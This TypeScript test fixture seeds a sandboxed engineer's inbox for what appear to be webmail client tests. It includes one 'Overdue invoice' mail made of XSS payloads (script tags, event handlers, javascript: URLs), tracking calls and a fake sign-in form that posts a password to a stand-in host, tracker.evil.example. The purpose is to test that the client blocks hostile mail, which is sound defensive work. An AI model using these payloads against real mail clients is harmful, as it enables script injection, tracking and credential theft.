// A mailbox for the walks: enough mail to scroll, some that names work orders, and one that means harm.
import type { Sandbox } from '../../sandbox/server.ts';

export const ENGINEER = 'chief.engineer@corvina.test';
export const EVIL = 'https://tracker.evil.example';

/** Everything a hostile sender tries, in one mail. `page.evaluate(() => window.hacked)` tells whether it worked. */
const HOSTILE = `<html><head><style>@import url(${EVIL}/style.css); body{background:url(${EVIL}/bg.png)}</style>
<meta http-equiv="refresh" content="0;url=${EVIL}/moved"><base href="${EVIL}/"><link rel="prefetch" href="${EVIL}/pre">
</head><body onload="parent.hacked=1;alert('onload')">
<script>parent.hacked = 1; alert('script')</script>
<img src="${EVIL}/pixel.gif" width="1" height="1"><img src=x onerror="parent.hacked=1;alert('onerror')">
<svg onload="parent.hacked=1;alert('svg')"><script>alert('svg script')</script></svg>
<iframe src="javascript:parent.parent.hacked=1"></iframe><object data="${EVIL}/object"></object>
<form action="${EVIL}/form"><input name="password"><button id="press">Sign in again</button></form>
<a href="javascript:parent.hacked=1;alert('link')">The invoice</a>
<video src="${EVIL}/v.mp4" autoplay></video><math href="javascript:alert(1)">x</math>
<p style="position:fixed;inset:0;background:url('${EVIL}/fixed.png')">Please see the overdue invoice below.</p>
</body></html>`;

/** A quotation as parts desks send it: wider than a phone. */
const QUOTATION = `<p>Please find our offer:</p><table border="1" cellpadding="6"><tr><th>Part no.</th><th>Description</th>
<th>Qty</th><th>EUR each</th><th>EUR</th></tr><tr><td>RE5616360</td><td>Bearing kit, blower no. 2, with seals and
circlips</td><td>12</td><td>12345.80</td><td>148149.60</td></tr></table>`;

/** A newsletter as tall as whatever it is shown in, whose style reaches for the whole document. */
const TALL = `<html><head><style>html,body{height:100%!important;min-height:100vh}*{display:block!important}
body{margin:24px}@media (min-height:300px){p{padding:40vmax}}</style></head><body><div style="min-height:100vh"><p>Fleet bulletin no. 7</p>
</div></body></html>`;

type Mail = { subject: string; html?: string; text?: string; minutesAgo: number; isRead?: boolean };

/** Puts one mail into the engineer's inbox. */
export function deliver(sandbox: Sandbox, { subject, html, text, minutesAgo, isRead = true }: Mail): void {
  sandbox.store.deliver(ENGINEER, 'inbox', {
    subject,
    from: { name: 'Parts Desk Bergholt', address: 'parts@bergholt.example' },
    to: [{ name: 'Ewan Traill', address: ENGINEER }],
    receivedAt: new Date(Date.now() - minutesAgo * 60_000),
    isRead,
    body: {
      contentType: html ? 'html' : 'text',
      content: html ?? text ?? 'Please see below. Regards, the parts desk',
    },
  });
}

/** The mailbox as the walk finds it. */
export function fillMailbox(sandbox: Sandbox): void {
  sandbox.store.createMailbox({ address: ENGINEER, displayName: 'Ewan Traill' });
  for (let n = 1; n <= 240; n += 1)
    deliver(sandbox, { subject: `Consignment note ${n}`, minutesAgo: 600 + n * 90 });
  deliver(sandbox, { subject: 'Offer for the seal kit, your WO-1042', minutesAgo: 300, isRead: false });
  deliver(sandbox, { subject: 'Overdue invoice', html: HOSTILE, minutesAgo: 240, isRead: false });
  deliver(sandbox, { subject: 'Quotation Q8630', html: QUOTATION, minutesAgo: 350 });
  deliver(sandbox, { subject: 'Fleet bulletin', html: TALL, minutesAgo: 400 });
  deliver(sandbox, { subject: 'Photos of the leaking flange', minutesAgo: 200 });
  deliver(sandbox, { subject: 'Attendance on board next week', minutesAgo: 180 });
}
